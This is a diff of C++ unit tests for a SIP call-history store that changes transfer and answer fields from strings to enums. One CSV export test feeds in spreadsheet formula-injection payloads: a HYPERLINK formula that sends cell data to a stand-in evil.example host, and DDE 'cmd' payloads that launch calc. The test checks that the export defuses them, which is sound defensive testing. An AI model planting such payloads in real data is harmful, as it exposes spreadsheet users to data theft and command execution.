@@ -80,7 +80,7 @@ class CallHistoryTest : public test::DirectoryTest {
     c.subject = "Quarterly numbers";
     c.connected_at = calls::Clock::time_point(1'800'000'000'000ms - 20s);
     c.reason = calls::EndReason{calls::EndCode::Completed, 0, calls::Party::Callee, "The other person hung up"};
-    c.transfer_kind = "blind";
+    c.transfer_kind = calls::TransferKind::Blind;
     c.transferred_to = "sip:+14255550199@pbx.example.com";
     history_->record(c);
     auto list = history_->list("sip:alice@example.com", 10);
@@ -105,7 +105,7 @@ class CallHistoryTest : public test::DirectoryTest {
     EXPECT_EQ(back.reason->by, calls::Party::Callee);
     EXPECT_EQ(back.reason->sip_status, 0);
     EXPECT_EQ(back.reason->message, "The other person hung up");
-    EXPECT_EQ(back.transfer_kind, "blind");
+    EXPECT_EQ(back.transfer_kind, calls::TransferKind::Blind);
     EXPECT_EQ(back.transferred_to, "sip:+14255550199@pbx.example.com");
   }
 
@@ -153,15 +153,15 @@ TEST_P(CallHistoryTest, EveryFieldComesBackAsItWentIn) {
 TEST_P(CallHistoryTest, ACallNotTransferredHasNoTransferFields) {
   history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
   calls::CallInfo attended = ended("c-2", "sip:alice@example.com", 2'000'000ms);
-  attended.transfer_kind = "attended";
+  attended.transfer_kind = calls::TransferKind::Attended;
   attended.transferred_to = "\"Carol\" <sip:carol@example.com>";
   history_->record(attended);
   auto list = history_->list("sip:alice@example.com", 10);
   ASSERT_TRUE(list.ok()) << list.error().message;
   ASSERT_EQ(list->size(), 2u);
-  EXPECT_EQ((*list)[0].transfer_kind, "attended");
+  EXPECT_EQ((*list)[0].transfer_kind, calls::TransferKind::Attended);
   EXPECT_EQ((*list)[0].transferred_to, "\"Carol\" <sip:carol@example.com>");
-  EXPECT_EQ((*list)[1].transfer_kind, "");
+  EXPECT_EQ((*list)[1].transfer_kind, calls::TransferKind::None);
   EXPECT_EQ((*list)[1].transferred_to, "");
   auto nulls = db().execute(
       "SELECT COUNT(*) AS n FROM call_history WHERE transfer_kind IS NULL AND transferred_to IS NULL");
@@ -178,7 +178,7 @@ TEST_P(CallHistoryTest, AMissedIncomingCallIsKeptWithItsCaller) {
   calls::CallInfo answered = ended("c-in2", "sip:alice@example.com", 4'000'000ms);
   answered.direction = calls::Direction::Incoming;
   answered.from = "<sip:bob@example.com>";
-  answered.answered_on = "callback";
+  answered.answered_on = calls::AnsweredOn::Callback;
   history_->record(missed);
   history_->record(answered);
   history_->record(ended("c-out", "sip:alice@example.com", 1'000'000ms));
@@ -186,10 +186,10 @@ TEST_P(CallHistoryTest, AMissedIncomingCallIsKeptWithItsCaller) {
   ASSERT_TRUE(list.ok()) << list.error().message;
   ASSERT_EQ(list->size(), 3u);
   EXPECT_EQ((*list)[0].direction, calls::Direction::Incoming);
-  EXPECT_EQ((*list)[0].answered_on, "callback");
+  EXPECT_EQ((*list)[0].answered_on, calls::AnsweredOn::Callback);
   EXPECT_EQ((*list)[1].direction, calls::Direction::Incoming);
   EXPECT_EQ((*list)[1].from, "\"Carol\" <sip:+14255550199@pbx.example.com>");
-  EXPECT_EQ((*list)[1].answered_on, "");
+  EXPECT_EQ((*list)[1].answered_on, calls::AnsweredOn::None);
   EXPECT_EQ((*list)[1].reason->code, calls::EndCode::Missed);
   EXPECT_EQ((*list)[1].reason->by, calls::Party::Server);
   EXPECT_EQ((*list)[2].direction, calls::Direction::Outgoing);
@@ -241,7 +241,7 @@ TEST_P(CallHistoryTest, CsvExportHasOneRowPerCallNewestFirst) {
   calls::CallInfo c = ended("c-1", "sip:alice@example.com", 1'800'000'000'000ms);
   c.connected_at = calls::Clock::time_point(1'800'000'000'000ms - 20s);
   c.subject = "Budget, \"Q3\"";
-  c.transfer_kind = "attended";
+  c.transfer_kind = calls::TransferKind::Attended;
   c.transferred_to = "sip:carol@example.com";
   history_->record(c);
   history_->record(ended("c-2", "sip:bob@example.com", 1'800'000'100'000ms));
@@ -276,7 +276,7 @@ TEST_P(CallHistoryTest, CsvExportDefusesFormulasFromCallersAndClients) {
   c.to = "=HYPERLINK(\"http://evil.example/?\"&A1,\"call\")";
   c.subject = "+cmd|' /C calc'!A0";
   c.reason = calls::EndReason{calls::EndCode::Failed, 0, calls::Party::Server, "@SUM(1+1)"};
-  c.transfer_kind = "blind";
+  c.transfer_kind = calls::TransferKind::Blind;
   c.transferred_to = "-2+3+cmd|' /C calc'!A0";
   history_->record(c);
   auto all = history_->list_all(10);
